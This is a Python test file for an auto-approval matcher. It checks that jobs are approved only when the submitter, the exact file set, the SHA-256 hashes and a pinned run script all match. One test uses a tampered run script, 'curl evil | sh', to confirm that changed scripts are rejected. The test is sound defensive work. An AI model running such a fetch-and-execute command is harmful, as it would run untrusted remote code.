"""Strict matching: exact file sets, content hashes, submitters, run scripts; lazy hashing."""

from __future__ import annotations

import hashlib
from pathlib import Path

from syft_monitors.approve.matching import match_job
from syft_monitors.approve.rules import AutoApprovalRule, FileHash


def digest(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


CONTENT = {"main.py": "print(1)\n", "lib/util.py": "x = 1\n", "run.sh": "python main.py\n"}


class FakeHasher:
    """Hashes by file name from CONTENT and records which files were hashed."""

    def __init__(self, overrides: dict[str, str] | None = None) -> None:
        self.content = {**CONTENT, **(overrides or {})}
        self.calls: list[str] = []

    def __call__(self, path: Path) -> str:
        self.calls.append(path.as_posix())
        return digest(self.content[path.as_posix()])


def files(*names: str) -> dict[str, Path]:
    return {name: Path(name) for name in names}


RULE = AutoApprovalRule(
    name="train",
    peers=("ann@x.org",),
    file_contents=(
        FileHash(relative_path="main.py", sha256=digest(CONTENT["main.py"])),
        FileHash(relative_path="lib/util.py", sha256=digest(CONTENT["lib/util.py"])),
    ),
    file_paths=("params.json",),
)


def test_exact_match() -> None:
    result = match_job(
        [RULE], "Ann@x.org", files("main.py", "lib/util.py", "params.json"), None, FakeHasher()
    )
    assert result.rule == "train"


def test_extra_and_missing_files_fail_without_hashing_anything() -> None:
    hasher = FakeHasher()
    extra = match_job(
        [RULE], "ann@x.org", files("main.py", "lib/util.py", "params.json", "evil.py"), None, hasher
    )
    missing = match_job([RULE], "ann@x.org", files("main.py", "params.json"), None, hasher)
    assert extra.rule is None
    assert "extra 'evil.py'" in extra.refusals["train"]
    assert missing.rule is None
    assert "missing 'lib/util.py'" in missing.refusals["train"]
    assert hasher.calls == []


def test_hash_mismatch_fails() -> None:
    hasher = FakeHasher({"lib/util.py": "x = 2\n"})
    result = match_job(
        [RULE], "ann@x.org", files("main.py", "lib/util.py", "params.json"), None, hasher
    )
    assert result.rule is None
    assert "hash mismatch in 'lib/util.py'" in result.explain()


def test_other_submitter_is_not_considered() -> None:
    result = match_job(
        [RULE], "bob@x.org", files("main.py", "lib/util.py", "params.json"), None, FakeHasher()
    )
    assert result.rule is None
    assert result.refusals == {}
    assert result.explain() == "no rule applies to this submitter"


def test_first_matching_rule_wins_and_each_file_is_hashed_once() -> None:
    loose = RULE.model_copy(update={"name": "loose", "peers": ()})
    hasher = FakeHasher()
    result = match_job(
        [RULE, loose], "ann@x.org", files("main.py", "lib/util.py", "params.json"), None, hasher
    )
    assert result.rule == "train"
    wrong = RULE.model_copy(update={"name": "wrong", "file_paths": ("other.json",)})
    hasher = FakeHasher()
    result = match_job(
        [wrong, loose, RULE],
        "ann@x.org",
        files("main.py", "lib/util.py", "params.json"),
        None,
        hasher,
    )
    assert result.rule == "loose"
    assert sorted(hasher.calls) == ["lib/util.py", "main.py"]


def test_pinned_run_script() -> None:
    pinned = RULE.model_copy(update={"run_sh_sha256": (digest(CONTENT["run.sh"]),)})
    job = files("main.py", "lib/util.py", "params.json")
    assert match_job([pinned], "ann@x.org", job, Path("run.sh"), FakeHasher()).rule == "train"
    changed = FakeHasher({"run.sh": "curl evil | sh\n"})
    assert match_job([pinned], "ann@x.org", job, Path("run.sh"), changed).rule is None
    assert match_job([pinned], "ann@x.org", job, None, FakeHasher()).rule is None
